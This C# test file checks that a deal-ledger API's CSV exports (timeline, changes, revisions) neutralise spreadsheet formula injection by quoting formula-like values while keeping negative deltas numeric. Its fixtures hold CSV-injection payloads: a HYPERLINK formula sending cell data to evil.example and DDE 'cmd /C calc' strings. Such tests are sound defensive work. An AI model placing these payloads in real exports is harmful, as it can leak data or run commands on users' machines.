using CsvHelper;
using DealLedger.Api.Audit;
using DealLedger.Api.Timeline;
using DealLedger.Testing;

namespace DealLedger.Api.Tests.Adversarial;

/// <summary>CSV exports open in spreadsheets: a text that a spreadsheet would run as a formula is exported as text, numbers stay numbers.</summary>
public class CsvInjectionTests(ApiFixture api) : ApiTest(api)
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    private const string Command = "+cmd|' /C calc'!A0";
    private const string Sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string Minus = "-2+3+cmd|' /C calc'!A0";

    /// <summary>A deal whose source is named with formulas, and an estimate revised down from 115B to 35B by a source named with one.</summary>
    private async Task GivenFormulasAsync()
    {
        var deal = Envelopes.Deal("d1", "formula-deal", "2025-09-01", Command);
        deal["source"]!["title"] = Hyperlink;
        var first = Envelopes.Estimate("e1", "formula-burn", "2025-09-01", 115_000_000_000m, first: true, publisher: Sum);
        var revised = Envelopes.Estimate("e2", "formula-burn", "2025-09-05", 35_000_000_000m, first: false, publisher: Minus);
        var import = await Api.ImportAsync(string.Join('\n', new[] { deal, first, revised }.Select(f => f.ToJsonString())));
        Assert.True(import.IsSuccessStatusCode, await import.Content.ReadAsStringAsync());
        await Api.CatchUpAsync();
    }

    private async Task<(string Text, List<T> Rows)> CsvAsync<T>(string url)
    {
        var text = await Api.Client(withKey: false).GetStringAsync(url);
        using var csv = CsvReader.Create(new StringReader(text), null);
        return (text, csv.GetRecords<T>().ToList());
    }

    [Fact]
    public async Task the_timeline_csv_exports_formulas_as_text_prefixed_with_a_quote()
    {
        await GivenFormulasAsync();

        var (text, rows) = await CsvAsync<TimelineRow>("/timeline?format=csv");

        Assert.Contains(rows, r => r.Publisher == "'" + Command && r.Title == "'" + Hyperlink);
        Assert.Contains(rows, r => r.Publisher == "'" + Sum && r.Title == "'" + Sum + " report");
        Assert.Contains(rows, r => r.Publisher == "'" + Minus);
        Assert.DoesNotContain(",=", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task the_changes_csv_exports_formulas_as_text_prefixed_with_a_quote()
    {
        await GivenFormulasAsync();

        var (_, rows) = await CsvAsync<ChangeRow>("/changes?from=2025-08-01&to=2025-09-30&format=csv");

        Assert.Contains(rows, r => r.Subject == "formula-deal" && r.Publisher == "'" + Command && r.Title == "'" + Hyperlink);
        Assert.Contains(rows, r => r.FactId == "e2" && r.Publisher == "'" + Minus && r.Title == "'" + Minus + " report");
        Assert.All(rows, r => Assert.DoesNotContain(r.Publisher[0], "=+-@"));
    }

    [Fact]
    public async Task a_revisions_csv_keeps_a_negative_delta_a_number_while_quoting_a_formula()
    {
        await GivenFormulasAsync();

        var (text, rows) = await CsvAsync<RevisionRow>("/estimates/formula-burn/revisions?format=csv");

        var revised = Assert.Single(rows, r => r.FactId == "e2");
        Assert.Equal("'" + Minus, revised.Publisher);
        Assert.Equal(-80_000_000_000m, revised.Delta);
        Assert.Contains(",-80000000000,", text, StringComparison.Ordinal);
    }
}
